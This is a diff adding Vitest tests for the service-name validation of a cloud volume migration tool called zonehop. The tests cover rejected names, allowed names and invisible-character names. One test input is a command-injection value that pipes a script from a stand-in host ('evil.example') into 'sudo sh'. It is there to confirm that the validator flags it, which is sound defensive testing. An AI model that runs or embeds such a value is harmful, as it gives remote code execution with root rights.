@@ -2,7 +2,7 @@
 import { describe, expect, test } from 'vitest'
 import type { Inventory, SeenInstance, SeenVolume } from '../../../src/core/model/facts.ts'
 import type { Choice } from '../../../src/core/model/plan.ts'
-import { NO_RULES, type Rules } from '../../../src/core/model/rules.ts'
+import { NO_RULES, type Rules, type ServiceRule } from '../../../src/core/model/rules.ts'
 import { draft, isRed } from '../../../src/core/planning/draft.ts'
 import { inventory, move, seen } from '../../support/plans.ts'
 
@@ -295,4 +295,72 @@ test('the same world gives the same digest, another world another', () => {
   const one = drawn({ volumes: [volume({ 'zonehop:service': 'web' })] })
   expect(drawn({ volumes: [volume({ 'zonehop:service': 'web' })] }).digest).toBe(one.digest)
   expect(drawn({ volumes: [volume({ 'zonehop:service': 'api' })] }).digest).not.toBe(one.digest)
+})
+
+describe('the name of a service', () => {
+  const named = (name: string, rule: Partial<ServiceRule> = {}, over: Partial<World> = {}) =>
+    drawn({ volumes: [volume({ 'zonehop:service': name })], rules: { services: { [name]: rule } }, ...over })
+  const about = (plan: ReturnType<typeof drawn>) => plan.checks.filter(({ result }) => result === 'red')
+  const REMEDY = 'name it with small letters, digits and hyphens, up to 50'
+
+  test.each<[string, string, Partial<ServiceRule>]>([
+    ['is frozen by document', 'Web Site', { freeze: 'document' }],
+    ['by hand, with a check', 'Web Site', { freeze: 'manual', check: true }],
+    ['by hand, with a hook', 'Web Site', { hook: 'warms the caches' }],
+    ['by hand, with a check and a hook', 'Web Site', { freeze: 'manual', check: true, hook: 'warms the caches' }],
+    ['by hand, with a document after its volumes are attached', 'web_site', { afterAttach: true }],
+    ['by stopping instances, with a check', 'Web', { freeze: 'stop-instances', check: true }],
+    ['is too long for a document', 'x'.repeat(51), { check: true }],
+  ])('%s: %s is red where a document would refuse it', (_, name, rule) => {
+    const cause = 'no document takes this name'
+    expect(about(named(name, rule))).toEqual([{ name: `service ${name}`, result: 'red', cause, remedy: REMEDY }])
+  })
+
+  test.each<[string, Partial<ServiceRule>]>([
+    ['Web Site', {}],
+    ['Größe (old)', { freeze: 'manual' }],
+    ['Web.Site_1', { freeze: 'stop-instances' }],
+    ['web-site', { freeze: 'document', check: true, hook: 'warms the caches', afterAttach: true }],
+  ])('%s is green where nothing but people takes it', (name, rule) => {
+    expect(about(named(name, rule))).toEqual([])
+  })
+
+  test.each(['logs`; curl -s evil.example/x | sudo sh; `', '<!channel>', '-rf', 'x'.repeat(51), 'two  spaces', ''])(
+    '%j is red for every method',
+    (name) => {
+      for (const freeze of ['manual', 'stop-instances', 'document'] as const) {
+        expect(about(named(name, { freeze }))).toContainEqual(
+          expect.objectContaining({ name: `service ${name}`, remedy: REMEDY }),
+        )
+      }
+    },
+  )
+
+  test('characters that nobody sees make no service beside, or of, another', () => {
+    const plan = drawn({
+      volumes: [
+        volume({ 'zonehop:service': 'logs' }),
+        volume({ 'zonehop:service': 'lo\u200Bgs\n' }, { id: 'vol-2', attachments: attachedAt('/dev/sdg') }),
+      ],
+    })
+    expect(plan.services.map(({ name }) => name)).toEqual(['logs'])
+    expect(about(plan)).toEqual([
+      expect.objectContaining({
+        name: 'route of logs (vol-2)',
+        cause: 'its service would be called "lo gs" with characters that nobody sees',
+      }),
+    ])
+  })
+
+  test('of a replica, which goes by documents whatever its method', () => {
+    const copy = seen(move({ id: 'vol-copy' }), {
+      zone: TARGET,
+      attachments: [{ instance: 'i-backup', device: '/dev/sdp', state: 'attached', deleteOnTermination: false }],
+      tags: { 'zonehop:replica-of': 'vol-1', 'zonehop:resource': 'files' },
+    })
+    const volumes = [volume({ 'zonehop:service': 'My Files' }), copy]
+    expect(about(named('My Files', {}, { volumes }))).toContainEqual(
+      expect.objectContaining({ name: 'service My Files', cause: 'no document takes this name' }),
+    )
+  })
 })
